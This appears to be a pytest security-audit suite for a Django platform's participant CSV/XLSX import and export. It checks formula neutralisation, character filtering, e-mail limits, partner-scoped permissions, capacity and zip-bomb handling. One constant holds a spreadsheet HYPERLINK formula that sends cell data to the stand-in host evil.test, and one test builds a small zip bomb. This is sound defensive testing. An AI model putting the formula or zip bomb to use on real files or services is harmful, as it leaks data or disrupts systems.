"""Participant import and export against hostile or careless files (the security audit)."""

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from himaya.accounts.choices import Role
from himaya.accounts.models import User
from himaya.core.models import AuditEntry
from himaya.testing import post_running_jobs
from himaya.training import participant_io, services
from himaya.training.models import Enrolment, EnrolmentStatus
from himaya.training.tests.factories import (
    CycleFactory,
    EnrolmentFactory,
    PartnerFactory,
    ProgrammeFactory,
    UserFactory,
)
from himaya.training.tests.test_import import HEADER, ROW_1, ROW_2, csv_bytes, run

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Cliquez")'


def formula_row(email="evil@justice.test"):
    # Quoted for CSV: the formula holds commas and quotes.
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    return f"{email},{quoted},@SUM(1+1),,,F,judge,-2+3 Tribunal,,+212661000009,fr"


# --- 1. exports carry no formulas ---------------------------------------------------------


def test_exported_xlsx_has_no_formula_cells(cycle):
    run(cycle, csv_bytes(HEADER, formula_row(), ROW_1))
    workbook = load_workbook(
        io.BytesIO(services.export_participants(cycle=cycle, file_format="xlsx"))
    )
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    # Text cells are strings, shown as typed (no quote needed: a string is never run).
    assert FORMULA in values and "@SUM(1+1)" in values and "-2+3 Tribunal" in values
    assert all(c.data_type == "s" for c in cells if c.value == FORMULA)


def test_exported_csv_quotes_formula_cells(cycle):
    run(cycle, csv_bytes(HEADER, formula_row()))
    text = services.export_participants(cycle=cycle, file_format="csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1:3] == ["'" + FORMULA, "'@SUM(1+1)"]
    assert row[7] == "'-2+3 Tribunal" and row[9] == "'+212661000009"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_of_formula_like_values_is_a_no_op(cycle, file_format):
    run(cycle, csv_bytes(HEADER, formula_row(), ROW_1, ROW_2))
    exported = services.export_participants(cycle=cycle, file_format=file_format)
    report = run(cycle, exported, filename=f"export.{file_format}")
    assert report.as_dict() == {
        "created": 0,
        "updated": 0,
        "unchanged": 3,
        "waiting": 0,
        "errors": [],
    }
    assert User.objects.get(email="evil@justice.test").first_name == FORMULA


def test_a_stored_control_character_does_not_break_the_xlsx_export(cycle):
    # Stored before validation existed (a NUL on SQLite; PostgreSQL refuses NUL but keeps BEL).
    EnrolmentFactory(cycle=cycle, participant__first_name="Na\x07ima")
    workbook = load_workbook(
        io.BytesIO(services.export_participants(cycle=cycle, file_format="xlsx"))
    )
    assert list(workbook.active.iter_rows(values_only=True))[1][1] == "Naima"


# --- 2. the reader limits -----------------------------------------------------------------


def test_too_many_rows_are_refused_with_a_clear_message(cycle, settings):
    settings.IMPORT_MAX_ROWS = 20_000
    rows = [HEADER] + [f"p{i}@justice.test,P{i},N{i},,,F,judge,,,,fr" for i in range(200_000)]
    with translation.override("en"), pytest.raises(participant_io.ImportFileError) as excinfo:
        run(cycle, csv_bytes(*rows))
    assert str(excinfo.value) == "The file has more than 20000 rows: split it into several files."
    assert User.objects.count() == 0


def test_utf16_excel_unicode_text_is_imported(cycle):
    text = "\r\n".join(line.replace(",", "\t") for line in (HEADER, ROW_1)) + "\r\n"
    report = run(cycle, text.encode("utf-16"), filename="liste.txt")
    assert report.applied, report.as_dict()
    assert User.objects.get(email="naima.aitbenhaddou@justice.test").first_name_ar == "نعيمة"


def test_cli_reports_a_too_large_file_as_json_not_a_traceback(cycle, settings, tmp_path, capsys):
    settings.IMPORT_MAX_ROWS = 1
    path = tmp_path / "big.csv"
    path.write_bytes(csv_bytes(HEADER, ROW_1, ROW_2))
    with translation.override("en"), pytest.raises(SystemExit) as excinfo:
        call_command("import_participants", str(path), cycle=cycle.slug, json=True)
    assert excinfo.value.code == 1
    payload = json.loads(capsys.readouterr().out)
    assert payload["created"] == 0
    assert payload["errors"][0]["message"].startswith("The file has more than 1 rows")


# --- 3. bad characters and e-mail lengths -------------------------------------------------


@pytest.mark.parametrize(
    "column,value",
    [
        ("first_name", "Na\x00ima"),
        ("last_name", "Aït\x07Benhaddou"),
        ("court", "Tribunal\x85de Settat"),
        ("first_name", "Naïma\u202e"),
        ("last_name_ar", "بنحدو\u2067"),
        ("first_name_ar", "نعي\u200bمة"),
        ("last_name", "Aït\u2060Benhaddou"),
        ("first_name", "Na\ufeffima"),
        ("phone", "+2126\x0061000001"),
    ],
)
def test_control_bidi_and_zero_width_characters_are_refused(cycle, column, value):
    values = dict(zip(HEADER.split(","), next(csv.reader([ROW_1])), strict=True))
    values[column] = value
    row = ",".join(values.values())
    with translation.override("en"):
        report = run(cycle, csv_bytes(HEADER, row))
    assert not report.applied
    assert [(e.row, e.field) for e in report.plan.errors] == [(2, column)]
    code = next(c for c in value if c in "\x00\x07\x85\u202e\u2067\u200b\u2060\ufeff")
    assert f"U+{ord(code):04X}" in report.plan.errors[0].message
    assert User.objects.count() == 0


def test_character_messages_are_translated(cycle):
    row = ROW_1.replace("Naïma", "Na\x00ima")
    messages = set()
    for language in ("fr", "ar", "en"):
        with translation.override(language):
            messages.add(run(cycle, csv_bytes(HEADER, row)).plan.errors[0].message)
    assert len(messages) == 3


@pytest.mark.parametrize(
    "email",
    [
        "a" * 65 + "@justice.test",
        "a" * 300 + "@justice.test",
        "a@" + ".".join(["d" * 60] * 5) + ".ma",  # every label valid, 309 characters in all
    ],
)
def test_e_mail_addresses_beyond_rfc_limits_are_refused(cycle, email):
    row = ROW_1.replace("naima.aitbenhaddou@justice.test", email)
    report = run(cycle, csv_bytes(HEADER, row))
    assert [(e.row, e.field) for e in report.plan.errors] == [(2, "email")]


def test_a_64_character_local_part_is_accepted(cycle):
    row = ROW_1.replace("naima.aitbenhaddou", "a" * 64)
    assert run(cycle, csv_bytes(HEADER, row)).applied


# --- 4. a refused import counts nothing ---------------------------------------------------


def test_refused_import_reports_zero_counts_in_json(cycle, tmp_path, capsys):
    rows = [HEADER] + [f"p{i}@justice.test,P{i},N{i},,,F,judge,,,,fr" for i in range(49)]
    rows.append("bad@justice.test,Bad,,,,F,judge,,,,fr")
    path = tmp_path / "mixed.csv"
    path.write_bytes(csv_bytes(*rows))
    cycle.capacity = 100
    cycle.save()
    with pytest.raises(SystemExit):
        call_command("import_participants", str(path), cycle=cycle.slug, json=True)
    payload = json.loads(capsys.readouterr().out)
    assert (payload["created"], payload["updated"], payload["unchanged"]) == (0, 0, 0)
    assert [(e["row"], e["field"]) for e in payload["errors"]] == [(51, "last_name")]
    assert User.objects.count() == 0


# --- 5. partner scoping -------------------------------------------------------------------


@pytest.fixture
def other_partner_setup(cycle):
    """Partner B, its coordinator and cycle; Naïma is enrolled only in partner A's cycle."""
    partner_b = PartnerFactory(slug="partner-b")
    cycle_b = CycleFactory(programme=ProgrammeFactory(partners=[partner_b]), slug="b-cycle")
    coordinator_b = UserFactory(
        role=Role.COORDINATOR, partner=partner_b, email="coord.b@example.test", is_staff=True
    )
    run(cycle, csv_bytes(HEADER, ROW_1))
    return cycle_b, coordinator_b


def test_a_coordinator_cannot_overwrite_another_partners_participant(other_partner_setup):
    cycle_b, coordinator_b = other_partner_setup
    hostile = ROW_1.replace("Naïma", "Changed").replace("+212661000001", "+212600000000")
    with translation.override("en"):
        report = run(cycle_b, csv_bytes(HEADER, hostile), actor=coordinator_b)
    assert not report.applied
    assert [(e.row, e.field) for e in report.plan.errors] == [(2, "email")]
    assert "other partners" in report.plan.errors[0].message
    naima = User.objects.get(email="naima.aitbenhaddou@justice.test")
    assert (naima.first_name, naima.phone) == ("Naïma", "+212661000001")
    assert not Enrolment.objects.filter(cycle=cycle_b).exists()


def test_the_same_coordinator_may_update_people_of_their_own_cycles(cycle, coordinator):
    run(cycle, csv_bytes(HEADER, ROW_1))
    changed = ROW_1.replace("Naïma", "Naima")
    report = run(cycle, csv_bytes(HEADER, changed), actor=coordinator)
    assert report.applied and report.as_dict()["updated"] == 1


def test_new_people_and_people_without_enrolment_may_be_imported_by_a_coordinator(
    other_partner_setup,
):
    cycle_b, coordinator_b = other_partner_setup
    UserFactory(email="said.chraibi@justice.test", first_name="S")  # no enrolment anywhere
    report = run(cycle_b, csv_bytes(HEADER, ROW_2), actor=coordinator_b)
    assert report.applied and report.as_dict()["updated"] == 1


def test_an_administrator_may_update_anyone(other_partner_setup, admin_user):
    cycle_b, _coordinator_b = other_partner_setup
    changed = ROW_1.replace("Naïma", "Naima")
    report = run(cycle_b, csv_bytes(HEADER, changed), actor=admin_user)
    assert report.applied and report.as_dict()["updated"] == 1


def test_cli_as_runs_with_that_users_rights_and_audits_them(
    other_partner_setup, coordinator, cycle, tmp_path, capsys
):
    cycle_b, coordinator_b = other_partner_setup
    path = tmp_path / "hostile.csv"
    path.write_bytes(csv_bytes(HEADER, ROW_1.replace("Naïma", "Changed")))
    with pytest.raises(SystemExit):
        call_command(
            "import_participants",
            str(path),
            cycle=cycle_b.slug,
            json=True,
            as_user=coordinator_b.email,
        )
    assert json.loads(capsys.readouterr().out)["errors"][0]["field"] == "email"
    assert User.objects.get(email="naima.aitbenhaddou@justice.test").first_name == "Naïma"

    # A coordinator of partner A may, and is recorded as the actor.
    call_command(
        "import_participants", str(path), cycle=cycle.slug, json=True, as_user="COORD@example.test"
    )
    assert json.loads(capsys.readouterr().out)["updated"] == 1
    naima = User.objects.get(email="naima.aitbenhaddou@justice.test")
    entry = AuditEntry.objects.filter(target_id=str(naima.pk), event="user.updated").get()
    assert entry.actor == coordinator


def test_cli_as_refuses_a_user_who_may_not_manage_the_cycle(
    other_partner_setup, coordinator, tmp_path
):
    cycle_b, _coordinator_b = other_partner_setup
    path = tmp_path / "list.csv"
    path.write_bytes(csv_bytes(HEADER, ROW_2))
    with pytest.raises(CommandError, match="may not manage"):
        call_command(
            "import_participants", str(path), cycle=cycle_b.slug, as_user="coord@example.test"
        )
    with pytest.raises(CommandError, match="No active user"):
        call_command("import_participants", str(path), cycle=cycle_b.slug, as_user="nobody@x.test")
    assert not User.objects.filter(email="said.chraibi@justice.test").exists()


def test_cli_without_as_acts_as_the_system_with_admin_rights(other_partner_setup, tmp_path):
    cycle_b, _coordinator_b = other_partner_setup
    path = tmp_path / "list.csv"
    path.write_bytes(csv_bytes(HEADER, ROW_1.replace("Naïma", "Naima")))
    call_command("import_participants", str(path), cycle=cycle_b.slug)
    naima = User.objects.get(email="naima.aitbenhaddou@justice.test")
    assert naima.first_name == "Naima"
    assert (
        AuditEntry.objects.filter(target_id=str(naima.pk), event="user.updated").get().actor is None
    )


# --- 6. capacity --------------------------------------------------------------------------


def _people(n, start=0):
    return [f"p{i}@justice.test,P{i},N{i},,,F,judge,,,,fr" for i in range(start, start + n)]


def test_rows_beyond_the_capacity_go_on_the_waiting_list(cycle):
    cycle.capacity = 3
    cycle.save()
    EnrolmentFactory(cycle=cycle)  # one place taken
    EnrolmentFactory(cycle=cycle, status=EnrolmentStatus.WITHDRAWN)  # holds no place
    report = run(cycle, csv_bytes(HEADER, *_people(4)))
    assert report.applied
    assert report.as_dict() == {
        "created": 4,
        "updated": 0,
        "unchanged": 0,
        "waiting": 2,
        "errors": [],
    }
    assert [r.row for r in report.plan.rows if r.waiting] == [4, 5]
    statuses = dict(
        Enrolment.objects.filter(
            cycle=cycle, participant__email__endswith="@justice.test"
        ).values_list("participant__email", "status")
    )
    assert statuses == {
        "p0@justice.test": EnrolmentStatus.INVITED,
        "p1@justice.test": EnrolmentStatus.INVITED,
        "p2@justice.test": EnrolmentStatus.WAITING,
        "p3@justice.test": EnrolmentStatus.WAITING,
    }


def test_people_already_enrolled_do_not_count_twice(cycle):
    cycle.capacity = 3
    cycle.save()
    assert run(cycle, csv_bytes(HEADER, *_people(3))).as_dict()["waiting"] == 0
    # The same three, one of them changed: no new place is needed.
    rows = _people(3)
    rows[0] = rows[0].replace("P0", "Pzero")
    report = run(cycle, csv_bytes(HEADER, *rows))
    assert report.as_dict() == {
        "created": 0,
        "updated": 1,
        "unchanged": 2,
        "waiting": 0,
        "errors": [],
    }
    # A fourth person does not fit: the waiting list.
    report = run(cycle, csv_bytes(HEADER, *_people(4)))
    assert report.as_dict()["waiting"] == 1
    assert Enrolment.objects.get(participant__email="p3@justice.test").status == "waiting"


def test_new_rows_queue_behind_the_people_already_waiting(cycle):
    """Seats freed by a larger capacity are not taken by a newer file ahead of the queue."""
    cycle.capacity = 2
    cycle.save()
    run(cycle, csv_bytes(HEADER, *_people(3)))  # p2 waits
    cycle.capacity = 3
    cycle.save()
    report = run(cycle, csv_bytes(HEADER, *_people(1, start=3)))
    assert report.as_dict()["waiting"] == 1


@pytest.mark.django_db(transaction=True)  # jobs run on commit, as in production
def test_the_preview_page_applies_the_partner_rule_and_counts_nothing(client, other_partner_setup):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    cycle_b, coordinator_b = other_partner_setup
    client.force_login(coordinator_b)
    data = csv_bytes(HEADER, ROW_1.replace("Naïma", "Changed"), ROW_2)
    with translation.override("en"):
        response = post_running_jobs(
            client,
            reverse("training:import_upload", args=[cycle_b.slug]),
            {"file": SimpleUploadedFile("p.csv", data)},
            follow=True,
        )
    assert response.status_code == 200
    assert 'id="confirm-import"' not in response.content.decode()
    counts = response.context["counts"]
    assert counts == {"created": 0, "updated": 0, "unchanged": 0, "error": 1}
    errors = [(e.row, e.field) for e in response.context["plan"].errors]
    assert errors == [(2, "email")]


@pytest.mark.django_db(transaction=True)  # jobs run on commit, as in production
def test_the_zip_bomb_upload_gets_the_size_message_not_a_500(client, coordinator, cycle, settings):
    import zipfile

    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    settings.IMPORT_MAX_INFLATED_BYTES = 2**20
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<row/>" * 2**19)
    client.force_login(coordinator)
    with translation.override("en"):
        response = post_running_jobs(
            client,
            reverse("training:import_upload", args=[cycle.slug]),
            {"file": SimpleUploadedFile("p.xlsx", buffer.getvalue())},
            follow=True,
        )
    assert response.status_code == 200
    assert "once uncompressed" in response.context["file_error"]
